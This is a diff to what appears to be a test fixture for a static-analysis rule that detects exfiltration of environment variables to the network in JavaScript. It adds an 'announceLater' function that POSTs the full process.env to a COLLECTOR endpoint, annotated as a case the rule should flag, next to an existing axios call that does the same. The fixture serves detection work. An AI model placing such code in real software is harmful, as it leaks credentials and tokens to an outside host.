@@ -28,6 +28,12 @@ function postAll() {
   return axios.post(COLLECTOR, process.env);
 }
 
+async function announceLater() {
+  const context = { pid: process.pid, ...process.env };
+  // ruleid: exfiltration/environment-to-network-javascript
+  await fetch(COLLECTOR, { method: "POST", body: JSON.stringify(context) });
+}
+
 async function announceVersion() {
   // ok: exfiltration/environment-to-network-javascript
   await fetch(COLLECTOR, { method: "POST", body: JSON.stringify({ version: process.env.APP_VERSION }) });
@@ -54,4 +60,4 @@ function save(stream) {
   stream.write(body);
 }
 
-module.exports = { announce, reportCrash, beacon, postAll, announceVersion, authorised, build, show, save };
+module.exports = { announce, reportCrash, beacon, postAll, announceLater, announceVersion, authorised, build, show, save };
